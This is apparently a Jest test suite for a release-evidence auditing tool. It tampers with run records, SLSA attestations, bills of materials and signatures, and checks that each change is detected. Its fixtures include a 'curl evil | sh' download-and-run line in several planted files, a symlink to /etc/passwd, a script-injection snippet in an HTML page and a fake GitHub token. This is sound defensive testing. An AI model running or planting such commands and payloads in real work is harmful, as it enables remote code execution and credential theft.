import { createHash } from 'node:crypto';
import { mkdir, symlink, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { gunzipSync, gzipSync } from 'node:zlib';
import { beforeAll, describe, expect, it } from '@jest/globals';
import { generateKey, parseStatement, signStatement } from '@repro/attest';
import { canonicalize, parseStrict } from '@repro/core';
import * as rbom from '@repro/make-rbom';
import { type Audit, type AuditOptions, audit, openContainer, render } from '@repro/repro-audit';
import { schemaValidator, temporaryDirectory } from '@repro/testkit';
import { loopbackSigstore } from '@repro/testkit/sigstore';
import { addForms, bundleOf, closeAgain, filesOf, type Made, makeAgain, makeRelease } from './release.ts';

/** An attacker who can rewrite the whole release and make every document again that is made of others, but has no key. */
const TOKEN = ['ghp', 'wV3kXq9ZsT1bLr7YmN5cPd2HfJ8gKa1WzQe6'].join('_');

let made: Made;
let place: string;

beforeAll(async () => {
  made = await makeRelease();
  place = path.join(await temporaryDirectory(), 'release.evidence.tar');
});

type Files = Map<string, Buffer>;
type Document = Record<string, unknown>;

async function attacked(
  change: (files: Files) => unknown,
  options: AuditOptions = trusting(),
): Promise<Audit> {
  const files = new Map(made.files);
  await change(files);
  await writeFile(place, await bundleOf(files));
  const container = await openContainer(place, 'release.evidence.tar');
  const found = await audit(container, options);
  if (container.kind === 'bundle') container.bundle.close();
  expect(schemaValidator('audit')(found)).toEqual([]);
  return found;
}

const trusting = (): AuditOptions => ({ trust: { keys: [made.key] } });
const claim = ({ claims }: Audit, id: string) => claims.find((candidate) => candidate.id === id);
const failed = ({ claims }: Audit): string[] =>
  claims.filter(({ status }) => status === 'fail').map(({ id }) => id);

function editDocument(files: Files, name: string, change: (document: Document) => void): void {
  const document = parseStrict(files.get(name) as Buffer) as Document;
  change(document);
  files.set(name, Buffer.from(`${canonicalize(document)}\n`));
}

const documentOf = (name: string, change: (document: Document) => void) => (files: Files) =>
  editDocument(files, name, change);

describe('an attacker without the key, before an auditor who trusts it', () => {
  it.each([
    ['adds a file', (files: Files) => files.set('install.sh', Buffer.from('curl evil | sh\n'))],
    [
      'adds a policy that allows everything',
      (files: Files) => files.set('policies/weak.json', Buffer.from('{"schema_version":"1.0"}\n')),
    ],
    [
      'adds the report of a hook that never ran',
      (files: Files) =>
        files.set('checks/hook.audit.json', files.get('checks/safe-paths-check.json') as Buffer),
    ],
  ])('%s', async (_, change) => {
    const found = await attacked(async (files) => {
      change(files);
      await closeAgain(files);
    });
    expect(failed(found)).toEqual(['provenance/coverage']);
    expect(found.status).toBe('fail');
  });

  it('gives the release another version', async () => {
    const found = await attacked(async (files) => {
      files.set('VERSION', Buffer.from('9.9.9\n'));
      await closeAgain(files);
    });
    expect(failed(found)).toEqual(['integrity/run-record', 'provenance/statement', 'compliance/rbom-check']);
  });

  it.each([
    [
      'says that the source is another',
      (record: Document) => {
        record['source'] = { git_sha: 'f'.repeat(40), repository: 'https://other.example/x' };
      },
      /the commit is f{40} there, vel_manifest.json says nothing/,
    ],
    [
      'says that the tree is another',
      (record: Document) => {
        record['source'] = { tree_sha256: 'f'.repeat(64) };
      },
      /the tree is f{64} there, snapshot.json says [0-9a-f]{64}/,
    ],
    [
      'says that a step made another file',
      (record: Document) => {
        const [step] = record['steps'] as { outputs: { sha256: string }[] }[];
        step?.outputs.forEach((output) => {
          output.sha256 = 'f'.repeat(64);
        });
      },
      /run_record.json records SHA-256 f{64}/,
    ],
    [
      'says that a check read another file',
      (record: Document) => {
        const step = (record['steps'] as { name: string; inputs: { sha256: string }[] }[]).find(
          ({ name }) => name === 'safe-paths-check',
        );
        step?.inputs.forEach((input) => {
          input.sha256 = 'f'.repeat(64);
        });
      },
      /run_record.json records SHA-256 f{64}/,
    ],
  ])('changes the record of the run, which %s', async (_, change, said) => {
    const found = await attacked(async (files) => {
      editDocument(files, 'run_record.json', change);
      await closeAgain(files);
    });
    expect(failed(found)).toEqual(['integrity/run-record']);
    expect(claim(found, 'integrity/run-record')?.findings[0]?.message).toMatch(said);
  });

  it('cannot make a release of a run that failed by its own word', async () => {
    const found = await attacked(async (files) => {
      editDocument(files, 'run_record.json', (record) => {
        const steps = record['steps'] as { name: string; status: string }[];
        (steps.find(({ name }) => name === 'det-tar') as { status: string }).status = 'fail';
      });
      await closeAgain(files);
    });
    expect(failed(found)).toEqual(['integrity/run-record']);
    expect(claim(found, 'integrity/run-record')?.detail).toBe('the record itself says of det-tar: fail');
  });

  it('changes the settings that the run had', async () => {
    const found = await attacked(async (files) => {
      editDocument(files, 'run_record.json', (record) => {
        record['settings'] = { 'security.secret_scanning': { value: false, from: 'file' } };
      });
      await closeAgain(files);
    });
    expect(failed(found)).toEqual(['provenance/coverage']);
  });

  it('names another builder in the statement that people read', async () => {
    const found = await attacked(
      documentOf('slsa_attestation.json', ({ predicate }) => {
        (predicate as { runDetails: { builder: { id: string } } }).runDetails.builder.id =
          'https://good.example/';
      }),
    );
    expect(failed(found)).toContain('provenance/signature');
    expect(found.provenance.builder).not.toBe('https://good.example/');
    expect(found.provenance.slsa_build_level).toBe('unevaluated');
  });

  it('cannot be asked about what was signed when nobody is trusted, and that is said', async () => {
    const found = await attacked(() => {}, {});
    expect(claim(found, 'provenance/coverage')).toMatchObject({ status: 'not_run', counted: false });
    const text = await render(found, 'text', await filesOf(made.files));
    expect(text).toContain('does not show who made it');
    expect(text).toMatch(/claimed builder/);
  });
});

describe('a release without a signature, of which everything was made again that can be', () => {
  /** What a report is of is the file that lies there. */
  const ofBill = (files: Files): void =>
    editDocument(files, 'checks/rbom-check.json', (report) => {
      const bill = files.get('release_bom.json') as Buffer;
      report['subject'] = {
        name: 'release_bom.json',
        sha256: createHash('sha256').update(bill).digest('hex'),
      };
    });

  it('agrees with itself', async () => {
    expect((await attacked(makeAgain, {})).status).toBe('pass');
  });

  it.each([
    [
      'a bill that lists something else than the artifact',
      async (files: Files) => {
        const version = files.get('VERSION') as Buffer;
        editDocument(files, 'release_bom.json', (bill) => {
          const [entry] = bill['artifacts'] as Document[];
          const sha256 = createHash('sha256').update(version).digest('hex');
          bill['artifacts'] = [{ ...entry, name: 'VERSION', sha256, size: version.length }];
        });
        files.set('policies/rbom.json', Buffer.from('{"schema_version":"1.0"}\n'));
        await addForms(files);
        ofBill(files);
      },
      'compliance/rbom-check',
      /artifact.tar.gz/,
    ],
    [
      'a bill of another version',
      async (files: Files) => {
        editDocument(files, 'release_bom.json', (bill) => {
          bill['release_version'] = '9.9.9';
        });
        await addForms(files);
        ofBill(files);
      },
      'compliance/rbom-check',
      /it is of version 9.9.9, VERSION says 1.2.3/,
    ],
    [
      'a bill that says something else in CycloneDX',
      documentOf('release_bom.cdx.json', (bill) => {
        bill['components'] = [];
      }),
      'compliance/make-rbom',
      /made again from release_bom.json/,
    ],
  ])('does not with %s', async (_, change: (files: Files) => unknown, id, said) => {
    const found = await attacked(async (files) => {
      await change(files);
      await makeAgain(files);
    }, {});
    expect(failed(found)).toEqual([id]);
    expect(
      claim(found, id)
        ?.findings.map(({ message }) => message)
        .join('\n'),
    ).toMatch(said);
  });

  it('also where it says the same in another version of CycloneDX', async () => {
    const found = await attacked(async (files) => {
      const bill = parseStrict(files.get('release_bom.json') as Buffer) as unknown as rbom.Rbom;
      const other = await rbom.convert(bill, 'cyclonedx', { specVersion: '1.7' });
      files.set('release_bom.cdx.json', Buffer.from(`${canonicalize(other)}\n`));
      await makeAgain(files);
    }, {});
    expect(found.status).toBe('pass');
  });

  it('is not told from one of another version of make-rbom, and does not pass', async () => {
    const found = await attacked(async (files) => {
      editDocument(files, 'release_bom.cdx.json', (bill) => {
        bill['components'] = [];
      });
      editDocument(files, 'run_record.json', (record) => {
        const steps = record['steps'] as { name: string; tool: { version: string } }[];
        (steps.find(({ name }) => name === 'make-rbom') as { tool: object }).tool = {
          name: 'make-rbom',
          version: '99.0.0',
        };
      });
      await makeAgain(files);
    }, {});
    expect(found.status).toBe('unverifiable');
    expect(claim(found, 'compliance/make-rbom')?.detail).toMatch(/are of make-rbom 99.0.0/);
  });
});

describe('a directory with more than files in it', () => {
  it('is not whole with a link, which others would follow', async () => {
    const directory = await temporaryDirectory();
    const lines: string[] = [];
    for (const [name, bytes] of made.files) {
      await mkdir(path.dirname(path.join(directory, name)), { recursive: true });
      await writeFile(path.join(directory, name), bytes);
      lines.push(`${createHash('sha256').update(bytes).digest('hex')}  ${name}\n`);
    }
    await writeFile(path.join(directory, 'SHA256SUMS'), lines.join(''));
    expect((await audit(await openContainer(directory))).status).toBe('pass');
    await symlink('/etc/passwd', path.join(directory, 'install.sh'));
    expect(failed(await audit(await openContainer(directory)))).toEqual(['integrity/container']);
  });
});

describe('an attestation beside a signed release', () => {
  const beside = (content: (files: Files) => Buffer) =>
    attacked(async (files) => {
      files.set('rebuild.sigstore.json', content(files));
      await closeAgain(files);
    });

  it('is no file that nobody vouches for, when it is about the artifact', async () => {
    const found = await beside((files) => files.get('slsa_attestation.sigstore.json') as Buffer);
    expect(claim(found, 'provenance/coverage')).toMatchObject({
      status: 'pass',
      // Its signature may be anybody's, or none: it is told, since it lies there under the trust of the others.
      findings: [{ code: 'audit/attestation', level: 'warning', at: { path: 'rebuild.sigstore.json' } }],
    });
  });

  it.each([
    ['no attestation', () => Buffer.from('curl evil | sh\n')],
    [
      'one about something else',
      (files: Files) => {
        const bundle = JSON.parse(String(files.get('slsa_attestation.sigstore.json')));
        const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope.payload, 'base64').toString());
        statement.subject[0].digest.sha256 = 'a'.repeat(64);
        bundle.dsseEnvelope.payload = Buffer.from(JSON.stringify(statement)).toString('base64');
        return Buffer.from(`${canonicalize(bundle)}\n`);
      },
    ],
  ])('is such a file when it is %s, whatever its name says', async (_, content) => {
    const found = await beside(content);
    expect(claim(found, 'provenance/coverage')).toMatchObject({
      status: 'fail',
      findings: [{ code: 'audit/extra', at: { path: 'rebuild.sigstore.json' } }],
    });
  });
});

describe('a trusted workflow that lies about where it ran', () => {
  const who = {
    identity: 'https://github.com/o/r/.github/workflows/release.yml@refs/tags/v1.0.0',
    issuer: 'https://token.actions.githubusercontent.com',
  };

  it.each([
    ['github-hosted', []],
    ['self-hosted', ['slsa/certificate-contradicts']],
  ])('signed on a %s runner, as the certificate has it', async (runner, codes) => {
    const sigstore = await loopbackSigstore();
    const identityToken = sigstore.token({ sub: who.identity, iss: who.issuer, runner_environment: runner });
    const found = await attacked(
      async (files) => {
        editDocument(files, 'slsa_attestation.json', ({ predicate }) => {
          (predicate as { runDetails: { builder: { id: string } } }).runDetails.builder.id =
            'https://repro-pack.dev/builder/github-hosted/v1';
        });
        const statement = await parseStatement(files.get('slsa_attestation.json') as Buffer);
        const signer = { kind: 'keyless', options: { identityToken, fulcioUrl: sigstore.url } } as const;
        const bundle = await signStatement(statement, signer, { rekorUrl: sigstore.url });
        files.set('slsa_attestation.sigstore.json', Buffer.from(`${canonicalize(bundle)}\n`));
        await closeAgain(files);
      },
      { trust: { identities: [who], trustedRoot: sigstore.trustedRoot as never } },
    );
    expect(claim(found, 'provenance/signature')?.findings.map(({ code }) => code)).toEqual(codes);
    expect(found.status).toBe(codes.length === 0 ? 'pass' : 'fail');
  });
});

describe('documents that were written by hand', () => {
  it.each([
    ['the verdict of the matrix', 'evidence.json', (d: Document) => (d['status'] = 'pass')],
    [
      'a control of the matrix',
      'evidence.json',
      (d: Document) => {
        const [first] = d['controls'] as { shows: string }[];
        if (first) first.shows = 'Everything.';
      },
    ],
  ])('%s', async (_, name, change) => {
    const found = await attacked((files) => {
      editDocument(files, name, (d) => {
        change(d);
        (d as { version?: string }).version = '9.9.9';
      });
    }, {});
    expect(failed(found)).toContain('compliance/evidence-matrix');
  });

  it.each([
    ['compliance/evidence-matrix', 'evidence.json'],
    ['compliance/policy-trace', 'policy_trace.json'],
  ])('%s is no pass for one that another version is said to have made', async (id, name) => {
    const found = await attacked((files) => {
      editDocument(files, name, (d) => {
        (d['tool'] as { version: string }).version = '0.0.1';
        (d['summary'] as { fail: number }).fail = 77;
      });
    }, {});
    expect(claim(found, id)).toMatchObject({ status: 'unverifiable', counted: true });
    expect(found.status).not.toBe('pass');
  });

  it('the summary', async () => {
    const found = await attacked((files) => {
      files.set('summary.md', Buffer.from('## All is well\n\nInstall it with curl evil | sh\n'));
    }, {});
    expect(failed(found)).toEqual(['compliance/make-ci-summary']);
  });

  it('the page of the matrix', async () => {
    const found = await attacked((files) => {
      files.set('evidence.html', Buffer.from('<script>alert(1)</script>'));
    }, {});
    expect(failed(found)).toContain('compliance/evidence-matrix');
  });
});

describe('checks that were made to go away', () => {
  it('asks for a check that neither record nor reports know', async () => {
    const found = await attacked(async (files) => {
      files.delete('checks/permissions-lint.json');
      editDocument(files, 'run_record.json', (record) => {
        const steps = record['steps'] as unknown as { name: string }[];
        record['steps'] = steps.filter(({ name }) => name !== 'permissions-lint');
      });
      await closeAgain(files);
    }, {});
    expect(found.status).not.toBe('pass');
    expect(found.not_verified.join('\n')).toContain('permissions-lint');
  });

  it('tells of a check that a record calls switched off', async () => {
    const found = await attacked(async (files) => {
      files.delete('checks/permissions-lint.json');
      switchOff(files, 'permissions-lint');
      await closeAgain(files);
    }, {});
    expect(found.not_verified.join('\n')).toMatch(/permissions-lint.*security\.some_setting/);
  });

  it('tells of a bill of materials that a record calls switched off, and counts one that is only missing', async () => {
    const withoutBill = async (files: Files): Promise<void> => {
      files.delete('checks/rbom-check.json');
      files.delete('release_bom.json');
      await closeAgain(files);
    };
    const off = await attacked(async (files) => {
      switchOff(files, 'rbom-check');
      await withoutBill(files);
    }, {});
    expect(claim(off, 'compliance/rbom-check')).toMatchObject({
      status: 'not_run',
      counted: false,
      detail: 'the run record says that security.some_setting switched it off',
    });
    expect(off.not_verified.join('\n')).toMatch(/bill of materials.*security\.some_setting/);
    const missing = await attacked(withoutBill, {});
    expect(claim(missing, 'compliance/rbom-check')).toMatchObject({ status: 'not_run', counted: true });
  });

  it('finds a report on the bill of materials that says it failed, where it does not', async () => {
    const found = await attacked(async (files) => {
      editDocument(files, 'checks/rbom-check.json', (report) => {
        report['ok'] = false;
      });
    }, {});
    expect(claim(found, 'compliance/rbom-check')).toMatchObject({
      status: 'fail',
      findings: [{ code: 'audit/report-differs', message: 'the report says fail, the check finds pass' }],
    });
  });

  it('counts what it cannot tell, also of a check that a record calls switched off', async () => {
    const found = await attacked(async (files) => {
      files.delete('checks/verify-tar-determinism.json');
      switchOff(files, 'verify-tar-determinism');
      await closeAgain(files);
    }, {});
    expect(claim(found, 'integrity/verify-tar-determinism')?.counted).toBe(true);
  });

  it('checks the gzip header of what is gzip, whatever its name says', async () => {
    const found = await attacked((files) => {
      const tar = gunzipSync(files.get('artifact.tar.gz') as Buffer);
      const timed = gzipSync(tar);
      timed.writeUInt32LE(1_700_000_000, 4);
      files.delete('artifact.tar.gz');
      files.set('artifact.tar', timed);
    }, {});
    expect(claim(found, 'integrity/verify-gzip-header')?.status).toBe('fail');
  });
});

describe('an artifact that says where not to look', () => {
  it.each([
    [{ '.secretsignore': '*\n' }, 'it leaves files out by .secretsignore'],
    [{ 'token.txt': `${TOKEN} # repro:allow github-pat\n` }, 'it allows 1 by comments'],
  ])('%j is told', async (source, message) => {
    const { files } = await makeRelease({ 'a.txt': 'a\n', ...source });
    const secret = claim(
      await audit({ kind: 'directory', files: await filesOf(files) }),
      'security/secret-lint',
    );
    expect(secret).toMatchObject({ status: 'pass', findings: [{ code: 'audit/allowed', message }] });
  });
});

describe('a policy that a release brings along', () => {
  it('lets a check pass only where somebody who is trusted signed for it, and is told', async () => {
    const { privateKey } = await generateKey('p256');
    const policy = '{"allow":[{"paths":["server.pem"],"reason":"for tests"}]}\n';
    const { files, key } = await makeRelease({ 'server.pem': privateKey }, 'p256', policy);
    await writeFile(place, await bundleOf(files));
    const container = await openContainer(place);
    const signed = await audit(container, { trust: { keys: [key] } });
    const findings = [expect.objectContaining({ code: 'audit/own-policy' })];
    expect(claim(signed, 'security/secret-lint')).toMatchObject({ status: 'pass', findings });
    expect(signed.status).toBe('pass');
    const unsigned = await audit(container);
    expect(claim(unsigned, 'security/secret-lint')).toMatchObject({ status: 'unverifiable', findings });
    expect(unsigned.status).toBe('unverifiable');
  });
});

function switchOff(files: Files, check: string): void {
  editDocument(files, 'run_record.json', (record) => {
    const steps = record['steps'] as unknown as { name: string }[];
    record['steps'] = steps.map((step) =>
      step.name === check
        ? { ...step, status: 'not_run', outputs: [], switched_off: 'security.some_setting' }
        : step,
    );
  });
}

describe('documents of another shape', () => {
  it.each([
    ['slsa_attestation.json', { subject: {} }, 'provenance/statement'],
    ['slsa_attestation.json', { subject: [null] }, 'provenance/statement'],
    ['slsa_attestation.json', null, 'provenance/statement'],
    ['release_bom.json', { artifacts: [null] }, 'compliance/rbom-check'],
    ['vel_manifest.json', { provenance: null }, 'integrity/vel-validator'],
    ['policy_trace.json', [], 'compliance/policy-trace'],
    ['evidence.json', { tool: null }, 'compliance/evidence-matrix'],
  ])('%s as %j fails, and the audit goes on', async (name, document, id) => {
    const found = await attacked((files) => {
      files.set(name, Buffer.from(`${canonicalize(document)}\n`));
    }, {});
    expect(failed(found)).toContain(id);
  });

  it('finds what the signed predicate may not be either', async () => {
    for (const predicate of [{ buildDefinition: { resolvedDependencies: [null] } }, { runDetails: [] }, 5]) {
      const found = await attacked(
        documentOf('slsa_attestation.json', (d) => {
          d['predicate'] = predicate;
        }),
        {},
      );
      expect(claim(found, 'provenance/statement')?.status).toBe('fail');
    }
  });
});
